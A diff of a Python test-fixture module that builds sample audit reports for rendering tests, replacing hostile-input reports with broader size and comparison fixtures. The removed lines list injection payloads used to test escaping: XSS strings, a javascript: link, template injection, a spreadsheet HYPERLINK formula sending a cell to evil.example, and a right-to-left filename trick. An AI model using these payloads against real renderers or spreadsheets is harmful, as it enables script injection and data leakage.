@@ -1,12 +1,8 @@
 # SPDX-FileCopyrightText: 2026 The auditor developers
 # SPDX-License-Identifier: GPL-2.0-or-later
-"""Reports made by hand, for tests of the forms in which they are shown: whole, in trouble, recorded, and hostile."""
+"""Reports made by hand, for tests of the forms in which they are shown: whole, broad, in trouble, and recorded."""
 
-import subprocess
-import sys
-from collections.abc import Callable, Mapping
-from functools import lru_cache, partial
-from types import MappingProxyType
+from functools import lru_cache
 
 from msgspec.structs import replace
 
@@ -15,8 +11,8 @@ from auditor.audit.profiles import with_profiles
 from auditor.declared.manifest import load_manifest
 from auditor.documents.recorded import load_audit
 from auditor.findings.judge import judge
-from auditor.model.claimed import Claim
-from auditor.model.declared import Limit, Release, System
+from auditor.model.claimed import Claim, RatioClaim, SizeClaim
+from auditor.model.declared import Limit
 from auditor.model.manifest import Manifest
 from auditor.model.measured import (
     Audit,
@@ -24,40 +20,32 @@ from auditor.model.measured import (
     Dispute,
     Function,
     LeftOutComponent,
+    LineCounts,
     MeasuredFile,
     Shipped,
     SourceRevision,
+    Totals,
     UnclassifiedFile,
     UnmeasuredFile,
 )
 from auditor.renderers import Report
-from tests.made.audits import REVISION, SOURCE, URL, comparison_record, make_audit, measured_file, result_of
-from tests.made.manifests import small_manifest
+from tests.made.audits import (
+    BETA_SOURCE,
+    REVISION,
+    URL,
+    audit_with,
+    comparison_record,
+    make_audit,
+    make_component,
+    make_result,
+    measured_file,
+    result_of,
+)
+from tests.made.manifests import BETA, KERNEL, MANIFEST
 from tests.made.places import ROOT
 
-MANIFEST = small_manifest().manifest
 DOWNSTREAM = SourceRevision("packaging", "https://example.org/packaging", "R1", "3" * 40, "4" * 40, True, False)
 DISPUTE = Dispute("A", 10, 9, "lizard: NLOC")
-
-HOSTILE: Mapping[str, str] = MappingProxyType(
-    {
-        "markup": "</script><img src=x onerror=alert(1)>",
-        "attribute": '" onmouseover="alert(1)" x="',
-        "apostrophe": "' autofocus onfocus='alert(1)",
-        "entity": "&lt;script&gt;&#x3c;]]>",
-        "template": "{{ 7 * 7 }}{% raw %}{0} [x](javascript:alert(1))",
-        "javascript": "javascript:alert(1)",
-        "formula": "=HYPERLINK(\"https://evil.example/\"&A1)",
-        "formula behind a blank": " +1;@SUM(A1)",
-        "table": "a|b`c``d|\\|e**f**_g_~h~ # i",
-        "mention": "@everyone #1 !2 www.evil.example https://evil.example/ a@evil.example",
-        "comma": 'a,"b",\'c\';d\te',
-        "right-to-left": "a\u202ecod.exe\u2066\u200b",
-        "control": "a\x00\x1b[31m\r\nb\x7f\ufffe",
-        "not UTF-8": "a\udcffb",
-        "long": "n" * 4_000,
-    }
-)  # fmt: skip
 
 
 def judged(audit: Audit, manifest: Manifest = MANIFEST) -> Report:
@@ -99,7 +87,9 @@ def disputed_file(path: str, dispute: Dispute = DISPUTE) -> MeasuredFile:
 def troubled_report() -> Report:
     """Everything is wrong that can be: an exceeded limit, a failed gate, gaps, doubts, code that nobody mentions."""
     manifest = replace(
-        MANIFEST, limits=(Limit("tcb", 10), Limit("hypervisor", 900)), claims=tuple(map(_gate, _claims()))
+        MANIFEST,
+        limits=(Limit("tcb", 10), Limit("hypervisor", 900)),
+        claims=tuple(replace(claim, gate=True) for claim in MANIFEST.claims),
     )
     audit = make_audit(
         manifest,
@@ -107,7 +97,7 @@ def troubled_report() -> Report:
             files=(disputed_file("daemon/a.c"), measured_file("daemon/b.c", code=200)),
             unmeasured=(UnmeasuredFile(URL, "daemon/run", "symbolic link"),),
         ),
-        hypervisor=result_of(unmeasured=(UnmeasuredFile("https://example.org/upstream/beta", "", "unreachable"),)),
+        hypervisor=result_of(unmeasured=(UnmeasuredFile(BETA, "", "unreachable"),)),
         windows=result_of(),
     )
     left_out = (LeftOutComponent("block", "Block backend", "third-party", "not read"),)
@@ -115,47 +105,97 @@ def troubled_report() -> Report:
     return judged(replace(audit, left_out=left_out, unclassified=unclassified), manifest)
 
 
-def _claims() -> tuple[Claim, ...]:
-    return MANIFEST.claims
-
-
-def _gate(claim: Claim) -> Claim:
-    return replace(claim, gate=True)
-
-
 def shown_report() -> Report:
     """A recorded audit that is shown since nothing could be measured."""
     return replace(whole_report(), recorded="no upstream could be reached")
 
 
-def hostile_report(text: str) -> Report:
-    """`text` in every place that an upstream, a manifest, an option or an error message can fill."""
-    item = disputed_file(f"{text}/{text}.c", Dispute("A", 10, 9, text))
-    functions = (Function(text, 1, 2, 3, 99, 5), Function(text, 4, 5, 3, 98, 5))
-    item = replace(item, measurement=replace(item.measurement, labels=(text,), functions=functions))
-    foreign = replace(item, file=replace(item.file, url=text, revision=text))
-    daemon, hypervisor, *others = (
-        replace(item, title=text, sentence=text, evidence=text, doubt=text) for item in MANIFEST.components
+FUNCTIONS = (Function("main", 3, 9, 7, 4, 2), Function("helper", 12, 40, 20, 17, 0))
+RECORD = replace(
+    comparison_record(c=20_000_000),
+    unmeasured=2,
+    physical_c=26_000_000,
+    totals=Totals(80_000, 20_000_000, 300_000, 1_000_000),
+)
+CLAIMS: tuple[Claim, ...] = (
+    SizeClaim(
+        id="size", quote="hundreds of thousands", page="doc", subjects=("tcb",), metric="c", minimum=100_000,
+        maximum=999_999, reading="How it is read",
+    ),
+    RatioClaim(
+        id="ratio", quote="several orders", page="doc", subjects=("tcb",), metric="c",
+        against=("linux", "windows", "beos"), orders=3.0, reading="At least three",
+    ),
+)  # fmt: skip
+
+
+def told_apart(item: MeasuredFile, **others: object) -> MeasuredFile:
+    """The file with two functions and a figure of its own for each instrument, so that columns are not mixed up."""
+    code = item.measurement.lines.code
+    measurement = replace(
+        item.measurement,
+        lines=LineCounts(code, 3, 2),
+        pygount_code=code - 1,
+        pygount_string=1,
+        lizard_nloc=code - 2,
+        functions=FUNCTIONS,
     )
-    here = replace(SOURCE, repository=text, ref=text)
-    there = SourceRevision(text, text, text, text, text, locked=False, overridden=True)
-    gaps = (UnmeasuredFile(URL, text, text), UnmeasuredFile(text, "", text))
-    patched = Shipped(URL, replace(DOWNSTREAM, repository=text, ref=text), (text[:200],), (foreign,), (text,))
-    results = (
-        ComponentResult(daemon, (here,), (item,), gaps, shipped=(patched,)),
-        ComponentResult(hypervisor, (there,), (foreign,)),
-        *(ComponentResult(component) for component in others if component.cited),
+    return replace(item, measurement=replace(measurement, **others))
+
+
+def comparisons() -> tuple[ComponentResult, ...]:
+    """One system that was counted and recorded, one that is cited, and one of which nothing is known."""
+    linux, windows, beos = (
+        result_of(component=make_component(name, "comparison", runs_in=())) for name in ("linux", "windows", "beos")
     )
-    system = System(text, (text,), text)
-    groups = {name: replace(group, title=text, explanation=text) for name, group in MANIFEST.groups.items()}
-    audit = Audit("R1", text, {text: text}, results, system, groups, True, (UnclassifiedFile(URL, REVISION, text),),
-                  (LeftOutComponent("block", text, "third-party", text),))  # fmt: skip
-    pages = {name: replace(page, title=text, url=text) for name, page in MANIFEST.pages.items()}
-    claims = tuple(replace(claim, quote=text, reading=text, maximum=11) if claim.id == "small" else claim
-                   for claim in MANIFEST.claims)  # fmt: skip
-    releases = {"R1": Release(text, {text: text})}
-    manifest = replace(MANIFEST, pages=pages, releases=releases, limits=(Limit("tcb", 1),), claims=claims)
-    return replace(judged(audit, manifest), recorded=text, manifest_name=text)
+    (cited,) = (item.cited for item in MANIFEST.components if item.cited)
+    cited = replace(cited, definition="<lines>", tool="wc", counted="all of it")
+    return (
+        replace(linux, record=RECORD),
+        replace(windows, component=replace(windows.component, sources=(), cited=cited)),
+        beos,
+    )
+
+
+def broad_results() -> tuple[ComponentResult, ...]:
+    """What was found of a system whose sizes have thousands: two components share a file, and one is not in the total.
+
+    Beside C there are assembly, in which no function is found, and Python.
+    """
+    shared = told_apart(measured_file("include/list.h", code=5, language="C header"), functions=())
+    assembly = measured_file(
+        "xen/entry.S", code=2_000, comment=3, blank=2, language="assembly", source=BETA_SOURCE, functions=None,
+        pygount_code=None, pygount_string=None, lizard_nloc=None,
+    )  # fmt: skip
+    generated = told_apart(measured_file("xen/common/a.c", code=250_000, source=BETA_SOURCE), labels=("generated",))
+    pacat = told_apart(measured_file("pulse/pacat.c", code=300))
+    script = told_apart(measured_file("x.py", code=40, language="Python"))
+    return (
+        make_result("guid", "qubes", told_apart(measured_file("gui-daemon/main.c", code=1_200)), shared),
+        make_result("pacat", "qubes", pacat, shared, script),
+        make_result("xen", "third-party", assembly, generated, revisions=(replace(BETA_SOURCE, locked=False),)),
+        make_result("guid+pure", "linked", told_apart(measured_file("libpure.c", code=77))),
+        *comparisons(),
+    )
+
+
+def make_report(*results: ComponentResult, claims: tuple[Claim, ...] = CLAIMS, **others: object) -> Report:
+    """A report on `results`, by default the broad ones, and nothing else; `others` are fields of the audit.
+
+    The manifest has no limits, and no component that is not among the results.
+    """
+    results = results or broad_results()
+    components = tuple(result.component for result in results)
+    manifest = replace(MANIFEST, components=components, claims=claims, limits=())
+    return judged(audit_with(results, manifest, **others), manifest)
+
+
+def incomplete_report() -> Report:
+    """The broad report without a figure of one file of xen, and of everything of blkback."""
+    guid, pacat, xen, *rest = broad_results()
+    xen = replace(xen, unmeasured=(UnmeasuredFile(BETA, "xen/odd.l", "no instrument knows it", revision=REVISION),))
+    gone = UnmeasuredFile(KERNEL, "", "unreachable")
+    return make_report(guid, pacat, xen, make_result("blkback", "third-party", unmeasured=(gone,)), *rest)
 
 
 @lru_cache(maxsize=1)
@@ -165,29 +205,5 @@ def recorded_report() -> Report:
     return judged(with_profiles(load_audit(ROOT / "reports" / "recorded" / "audit.json"), file), file.manifest)
 
 
-REPORTS: Mapping[str, Callable[[], Report]] = MappingProxyType(
-    {
-        "whole": whole_report,
-        "troubled": troubled_report,
-        "shown": shown_report,
-        "R4.3.0": recorded_report,
-        **{name: partial(hostile_report, text) for name, text in HOSTILE.items()},
-    }
-)
-"""What makes each report, by the name that a test shows for it."""
-
-
 def render(form: str, report: Report) -> dict[str, str]:
     return renderers.render(report, form)
-
-
-def texts_with_seed(seed: str) -> str:
-    """The texts of all forms of all reports but the hostile ones, as an interpreter with this hash seed writes them."""
-    program = (
-        "import sys; from auditor.renderers import FORMATS; from tests.made.reports import HOSTILE, REPORTS, render;"
-        "sys.stdout.buffer.write(''.join(repr((form, name, render(form, make()))) for form in FORMATS"
-        " for name, make in REPORTS.items() if name not in HOSTILE).encode())"
-    )
-    environment = {"PYTHONHASHSEED": seed, "PYTHONPATH": str(ROOT)}
-    command = [sys.executable, "-c", program]
-    return subprocess.run(command, capture_output=True, text=True, check=True, env=environment, cwd=ROOT).stdout
